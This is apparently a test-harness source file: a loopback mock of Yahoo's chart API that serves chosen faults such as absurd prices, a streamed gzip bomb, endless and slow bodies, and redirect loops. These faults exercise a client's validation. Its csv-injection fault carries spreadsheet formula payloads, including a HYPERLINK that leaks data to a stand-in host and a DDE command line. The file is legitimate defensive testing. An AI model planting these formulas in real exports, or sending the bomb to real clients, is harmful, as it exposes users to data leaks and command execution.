/**
 * A hostile stand-in for Yahoo's chart v8 endpoint: every way an upstream has been seen to break the server
 * (issue 8), on demand, on loopback.
 *
 * THE PAYLOADS ARE SYNTHETIC ON PURPOSE. Prices here are made up (a gentle 100 -> 110 ramp on weekdays) so a
 * single field can be broken without touching real data; they are test input for the validation, never data a
 * reader sees. See README.md in this folder.
 *
 *   npx tsx tests/hostile-upstream/server.ts --port 4020
 *
 * A fault is chosen per request, in this order:
 *   GET /<fault>/v8/finance/chart/:symbol   a path prefix: point YAHOO_BASE_URL at http://host:port/<fault>
 *   GET /v8/finance/chart/:symbol?fault=<fault>
 *   GET /v8/finance/chart/:symbol           the current default (POST /__fault/<fault>, `ok` at start)
 * Control routes: POST /__fault/<fault>, POST /__reset, GET /__requests, GET /__health.
 */
import { createServer, type IncomingMessage, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import { pathToFileURL } from 'node:url'
import { gzipSync } from 'node:zlib'
import { chartEnvelope, chartResultFromRows } from '../mock-yahoo/payload-from-bars'

export const HOSTILE_FAULTS = [
  'ok',
  // item 1: values that broke the tick loops
  'extreme-1e300',
  'extreme-tiny',
  'extreme-1e19',
  // item 2: garbage rows and dates
  'negative-price',
  'zero-price',
  'price-1e308',
  'high-below-low',
  'fractional-volume',
  'negative-volume',
  'duplicate-timestamps',
  'wrong-zone',
  'unknown-zone',
  'wrong-gmtoffset',
  'many-timestamps',
  'million-timestamps',
  // item 3: unbounded bodies
  'huge-body',
  'gzip-bomb',
  'bad-gzip',
  'bad-json',
  'slow-body',
  // item 4: redirects
  'redirect-cross-origin',
  'redirect-loop',
  // item 7: CSV injection
  'csv-injection',
] as const

export type HostileFault = (typeof HOSTILE_FAULTS)[number]

export function isHostileFault(value: string): value is HostileFault {
  return (HOSTILE_FAULTS as readonly string[]).includes(value)
}

/** Sizes of the streamed faults, generated chunk by chunk: the server never holds them in memory. */
export const HUGE_BODY_BYTES = 200 * 1024 * 1024
export const GZIP_BOMB_INFLATED_BYTES = 1024 * 1024 * 1024
export const MANY_TIMESTAMPS = 6_000
export const MILLION_TIMESTAMPS = 1_000_000
/** Prices of the `ok` ramp; every fault changes one or two rows of it. */
export const SYNTHETIC_BASE_PRICE = 100

export interface HostileRequest {
  fault: HostileFault
  symbol: string
  host: string
  path: string
  time: number
}

export interface HostileUpstream {
  url: string
  port: number
  requests: HostileRequest[]
  setFault(fault: HostileFault): void
  countFor(fault: HostileFault): number
  reset(): void
  close(): Promise<void>
}

interface SyntheticRow {
  ts: number
  open: number
  high: number
  low: number
  close: number
  volume: number
  adjclose: number
}

type Meta = Record<string, string | number | null>

const NEW_YORK = 'America/New_York'

/** Epoch seconds of 09:30 New York on a UTC date (EST/EDT from the zone, as Yahoo stamps daily bars). */
function nineThirtyNewYork(dayMs: number): number {
  const probe = new Date(dayMs + 14.5 * 3600_000)
  const hour = Number(
    new Intl.DateTimeFormat('en-US', { timeZone: NEW_YORK, hour: 'numeric', hourCycle: 'h23' }).format(probe),
  )
  // 14:30 UTC is 09:30 EST (hour 9) or 10:30 EDT (hour 10).
  return Math.floor((probe.getTime() - (hour - 9) * 3600_000) / 1000)
}

/** Weekday sessions in [period1, period2): a synthetic ramp from 100 to 110. */
export function syntheticRows(period1: number, period2: number, limit = 400): SyntheticRow[] {
  const rows: SyntheticRow[] = []
  const startDay = Math.floor(period1 / 86_400) * 86_400_000
  for (let day = startDay; day < period2 * 1000 && rows.length < limit; day += 86_400_000) {
    const weekday = new Date(day).getUTCDay()
    if (weekday === 0 || weekday === 6) continue
    const ts = nineThirtyNewYork(day)
    if (ts < period1 || ts >= period2) continue
    const close = SYNTHETIC_BASE_PRICE + rows.length * 0.05
    rows.push({
      ts,
      open: close - 0.2,
      high: close + 1,
      low: close - 1,
      close,
      volume: 1_000_000 + rows.length,
      adjclose: close,
    })
  }
  return rows
}

function chartBody(symbol: string, rows: readonly SyntheticRow[], meta: Meta = {}): string {
  const fullMeta = {
    currency: 'USD',
    symbol,
    exchangeTimezoneName: NEW_YORK,
    gmtoffset: -18000,
    instrumentType: 'EQUITY',
    longName: `Synthetic ${symbol}`,
    ...meta,
  }
  return JSON.stringify(
    chartEnvelope(
      chartResultFromRows(
        fullMeta,
        rows.map((r) => ({ ...r, adj: r.adjclose })),
      ),
    ),
  )
}

/** The rows a fault breaks: the 2nd and 3rd session of the window (the first stays a clean base). */
function breakRows(rows: SyntheticRow[], change: (row: SyntheticRow, k: number) => SyntheticRow): SyntheticRow[] {
  return rows.map((row, i) => (i === 1 || i === 2 ? change(row, i) : row))
}

/** Which fault a synthetic body carries, for the faults that are a JSON payload (the rest are transport faults). */
export function faultPayload(
  fault: HostileFault,
  symbol: string,
  period1: number,
  period2: number,
): string | undefined {
  const rows = syntheticRows(period1, period2)
  const all = (price: number) => (row: SyntheticRow) => ({
    ...row,
    open: price,
    high: price,
    low: price,
    close: price,
    adjclose: price,
  })
  switch (fault) {
    case 'ok':
      return chartBody(symbol, rows)
    case 'extreme-1e300':
      return chartBody(
        symbol,
        breakRows(rows, (r) => ({ ...r, high: 1e300, close: 1e300, adjclose: 1e300 })),
      )
    case 'extreme-tiny':
      return chartBody(symbol, breakRows(rows, all(5e-324)))
    case 'extreme-1e19':
      return chartBody(
        symbol,
        breakRows(rows, (r, k) => all(k === 1 ? 1e19 : 1e19 + 4096)(r)),
      )
    case 'negative-price':
      return chartBody(
        symbol,
        breakRows(rows, (r) => ({ ...r, low: -r.low })),
      )
    case 'zero-price':
      return chartBody(symbol, breakRows(rows, all(0)))
    case 'price-1e308':
      return chartBody(
        symbol,
        breakRows(rows, (r) => ({ ...r, high: 1e308 })),
      )
    case 'high-below-low':
      return chartBody(
        symbol,
        breakRows(rows, (r) => ({ ...r, high: r.low - 1 })),
      )
    case 'fractional-volume':
      return chartBody(
        symbol,
        breakRows(rows, (r) => ({ ...r, volume: r.volume + 0.5 })),
      )
    case 'negative-volume':
      return chartBody(
        symbol,
        breakRows(rows, (r) => ({ ...r, volume: -r.volume })),
      )
    case 'duplicate-timestamps': {
      // The 3rd session repeats the 2nd's timestamp with other prices; a later row must not win silently.
      const first = rows[1]
      return chartBody(
        symbol,
        breakRows(rows, (r, k) =>
          k === 2 && first ? { ...r, ts: first.ts, close: r.close + 5, high: r.high + 5 } : r,
        ),
      )
    }
    case 'wrong-zone':
      // 14 hours ahead of New York: Friday's 09:30 lands on Saturday.
      return chartBody(symbol, rows, { exchangeTimezoneName: 'Pacific/Kiritimati', gmtoffset: 14 * 3600 })
    case 'unknown-zone':
      return chartBody(symbol, rows, { exchangeTimezoneName: 'Mars/Olympus_Mons' })
    case 'wrong-gmtoffset': {
      const body = JSON.parse(chartBody(symbol, rows, { gmtoffset: 14 * 3600 })) as {
        chart: { result: [{ meta: Meta }] }
      }
      delete body.chart.result[0].meta.exchangeTimezoneName
      return JSON.stringify(body)
    }
    case 'many-timestamps':
      // More sessions than any window holds, in a body small enough to pass the byte cap.
      return chartBody(
        symbol,
        Array.from({ length: MANY_TIMESTAMPS }, (_, i) => ({
          ts: period1 + i * 3600,
          open: 100,
          high: 101,
          low: 99,
          close: 100,
          volume: 1,
          adjclose: 100,
        })),
      )
    case 'csv-injection':
      return chartBody(symbol, rows, {
        currency: '=HYPERLINK("http://evil.invalid/?leak","click")\r\nNVDA,2025-01-02,1,1,1,1,1,1,USD,yahoo',
        longName: "=cmd|' /C calc'!A0",
      })
    default:
      return undefined
  }
}

/** Writes `total` bytes made by `chunkAt`, honouring backpressure, and stops when the client goes away. */
function streamBytes(
  res: ServerResponse,
  total: number,
  chunkAt: (offset: number) => Buffer,
  sink: NodeJS.WritableStream = res,
): void {
  let sent = 0
  const pump = () => {
    while (sent < total && !res.destroyed) {
      const chunk = chunkAt(sent)
      const piece = sent + chunk.length > total ? chunk.subarray(0, total - sent) : chunk
      sent += piece.length
      if (!sink.write(piece)) {
        sink.once('drain', pump)
        return
      }
    }
    if (sent >= total) sink.end()
  }
  res.once('close', () => sink.removeListener('drain', pump))
  pump()
}

const SPACES = Buffer.alloc(64 * 1024, 0x20)

const GZIP_MEMBER_BYTES = 1024 * 1024
let bombParts: { head: Buffer; member: Buffer } | undefined

function gzipBombParts(): { head: Buffer; member: Buffer } {
  bombParts ??= {
    head: gzipSync(Buffer.from('{"chart":{"result":[')),
    member: gzipSync(Buffer.alloc(GZIP_MEMBER_BYTES, 0x20), { level: 9 }),
  }
  return bombParts
}

/** A JSON text that opens like a chart and then never ends in the bytes it is allowed: padding after a prefix. */
function hugeJsonChunk(prefix: Buffer) {
  return (offset: number) => (offset === 0 ? prefix : SPACES)
}

function millionTimestampsChunks(symbol: string): (offset: number) => Buffer {
  // `{"chart":{"result":[{"meta":{...},"timestamp":[t,t,...` then the quote arrays, generated row by row.
  const head = Buffer.from(
    `{"chart":{"result":[{"meta":{"currency":"USD","symbol":${JSON.stringify(symbol)},"exchangeTimezoneName":"America/New_York"},"timestamp":[`,
  )
  const row = Buffer.from('1737469800,'.repeat(6_000))
  return (offset) => (offset === 0 ? head : row)
}

/**
 * Answers one chart request with `fault`. Exported so the mock Yahoo server can serve the same faults on its own
 * port (POST /__fault/<fault> there), which is what the e2e servers already talk to.
 */
export function serveHostileChart(
  req: IncomingMessage,
  res: ServerResponse,
  fault: HostileFault,
  symbol: string,
  url: URL,
): void {
  const port = req.socket.localPort ?? 0
  const period1 = Number(url.searchParams.get('period1') ?? 0)
  const period2 = Number(url.searchParams.get('period2') ?? 0)
  const payload = faultPayload(fault, symbol, period1, period2)
  if (payload !== undefined) {
    res.writeHead(200, { 'content-type': 'application/json' })
    res.end(payload)
    return
  }
  switch (fault) {
    case 'million-timestamps': {
      res.writeHead(200, { 'content-type': 'application/json' })
      streamBytes(res, MILLION_TIMESTAMPS * 11 * 6, millionTimestampsChunks(symbol))
      return
    }
    case 'huge-body': {
      res.writeHead(200, { 'content-type': 'application/json', 'content-length': String(HUGE_BODY_BYTES) })
      streamBytes(res, HUGE_BODY_BYTES, hugeJsonChunk(Buffer.from('{"chart":{"result":[')))
      return
    }
    case 'gzip-bomb': {
      // About 1 MB on the wire, 1 GB once inflated: a gzip member of a JSON opening, then 1,024 members of 1 MiB
      // of spaces each (a gzip body may hold many members; decoders inflate them one after another). Only the
      // two members are made with zlib, once; the body is streamed from them.
      const { head, member } = gzipBombParts()
      const total = head.length + (GZIP_BOMB_INFLATED_BYTES / GZIP_MEMBER_BYTES) * member.length
      res.writeHead(200, {
        'content-type': 'application/json',
        'content-encoding': 'gzip',
        'content-length': String(total),
      })
      streamBytes(res, total, (offset) => (offset === 0 ? head : member))
      return
    }
    case 'bad-gzip': {
      res.writeHead(200, { 'content-type': 'application/json', 'content-encoding': 'gzip' })
      res.end(Buffer.concat([Buffer.from([0x1f, 0x8b, 0x08, 0x00]), Buffer.alloc(4096, 0xab)]))
      return
    }
    case 'bad-json': {
      const text = faultPayload('ok', symbol, period1, period2) ?? ''
      res.writeHead(200, { 'content-type': 'application/json' })
      res.end(text.slice(0, Math.floor(text.length / 2)))
      return
    }
    case 'slow-body': {
      // Headers at once, then one byte a second: only a timeout over the whole body read ends this.
      res.writeHead(200, { 'content-type': 'application/json' })
      const timer = setInterval(() => res.write(' '), 1000)
      res.write('{"chart":')
      res.once('close', () => clearInterval(timer))
      return
    }
    case 'redirect-cross-origin': {
      // Another origin (localhost is not 127.0.0.1) that this server also answers, so a follow would be seen.
      res.writeHead(302, {
        location: `http://localhost:${port}/ok/v8/finance/chart/${encodeURIComponent(symbol)}${url.search}`,
      })
      res.end()
      return
    }
    case 'redirect-loop': {
      res.writeHead(301, { location: `${url.pathname}${url.search}` })
      res.end()
      return
    }
    default:
      res.writeHead(500, { 'content-type': 'text/plain' })
      res.end(`fault ${fault} has no handler`)
  }
}

export async function startHostileUpstream(options: { port?: number; host?: string } = {}): Promise<HostileUpstream> {
  const host = options.host ?? '127.0.0.1'
  let defaultFault: HostileFault = 'ok'
  const requests: HostileRequest[] = []

  function handleChart(req: IncomingMessage, res: ServerResponse, fault: HostileFault, symbol: string, url: URL): void {
    requests.push({ fault, symbol, host: req.headers.host ?? '', path: url.pathname, time: Date.now() })
    serveHostileChart(req, res, fault, symbol, url)
  }

  function handle(req: IncomingMessage, res: ServerResponse): void {
    const url = new URL(req.url ?? '/', 'http://hostile.invalid')
    const method = req.method ?? 'GET'
    const chart = /^(?:\/([a-z0-9-]+))?\/v8\/finance\/chart\/([^/]+)$/.exec(url.pathname)
    if (chart && method === 'GET') {
      const named = chart[1] ?? url.searchParams.get('fault') ?? defaultFault
      if (!isHostileFault(named)) {
        res.writeHead(400, { 'content-type': 'application/json' })
        res.end(JSON.stringify({ error: `unknown fault ${named}`, faults: HOSTILE_FAULTS }))
        return
      }
      let symbol = 'SYN'
      try {
        symbol = decodeURIComponent(chart[2] ?? 'SYN')
      } catch {
        // Keep the placeholder: the fault, not the symbol, is under test.
      }
      handleChart(req, res, named, symbol, url)
      return
    }
    const set = /^\/__fault\/([a-z0-9-]+)$/.exec(url.pathname)
    if (set?.[1] !== undefined && method === 'POST') {
      if (!isHostileFault(set[1])) {
        res.writeHead(400, { 'content-type': 'application/json' })
        res.end(JSON.stringify({ error: `unknown fault ${set[1]}`, faults: HOSTILE_FAULTS }))
        return
      }
      defaultFault = set[1]
      res.writeHead(200, { 'content-type': 'application/json' })
      res.end(JSON.stringify({ fault: defaultFault }))
      return
    }
    if (url.pathname === '/__reset' && method === 'POST') {
      upstream.reset()
      res.writeHead(200, { 'content-type': 'application/json' })
      res.end(JSON.stringify({ fault: defaultFault }))
      return
    }
    if (url.pathname === '/__requests' && method === 'GET') {
      res.writeHead(200, { 'content-type': 'application/json' })
      res.end(JSON.stringify({ total: requests.length, requests }))
      return
    }
    if ((url.pathname === '/' || url.pathname === '/__health') && method === 'GET') {
      res.writeHead(200, { 'content-type': 'application/json' })
      res.end(JSON.stringify({ ok: true, fault: defaultFault, faults: HOSTILE_FAULTS }))
      return
    }
    res.writeHead(404, { 'content-type': 'application/json' })
    res.end(JSON.stringify({ chart: { result: null, error: { code: 'Not Found', description: 'No such route' } } }))
  }

  const http = createServer(handle)
  await new Promise<void>((resolve, reject) => {
    http.once('error', reject)
    http.listen(options.port ?? 0, host, () => {
      http.off('error', reject)
      resolve()
    })
  })
  const port = (http.address() as AddressInfo).port

  const upstream: HostileUpstream = {
    url: `http://${host}:${port}`,
    port,
    requests,
    setFault(fault) {
      defaultFault = fault
    },
    countFor(fault) {
      return requests.filter((r) => r.fault === fault).length
    },
    reset() {
      requests.length = 0
      defaultFault = 'ok'
    },
    close() {
      return new Promise<void>((resolve, reject) => {
        http.close((error) => (error ? reject(error) : resolve()))
        http.closeAllConnections()
      })
    },
  }
  return upstream
}

async function main(): Promise<void> {
  const i = process.argv.indexOf('--port')
  const port = i >= 0 ? Number(process.argv[i + 1]) : Number(process.env.HOSTILE_UPSTREAM_PORT ?? 4020)
  if (!Number.isInteger(port) || port < 0 || port > 65535) throw new Error('port must be 0..65535')
  const upstream = await startHostileUpstream({ port })
  console.log(`hostile-upstream listening on ${upstream.url} (faults: ${HOSTILE_FAULTS.join(', ')})`)
  const stop = () => {
    upstream.close().then(
      () => process.exit(0),
      () => process.exit(1),
    )
  }
  process.once('SIGINT', stop)
  process.once('SIGTERM', stop)
}

const invokedPath = process.argv[1]
if (invokedPath !== undefined && import.meta.url === pathToFileURL(invokedPath).href) {
  main().catch((error: unknown) => {
    console.error(`hostile-upstream: ${error instanceof Error ? error.message : String(error)}`)
    process.exit(1)
  })
}
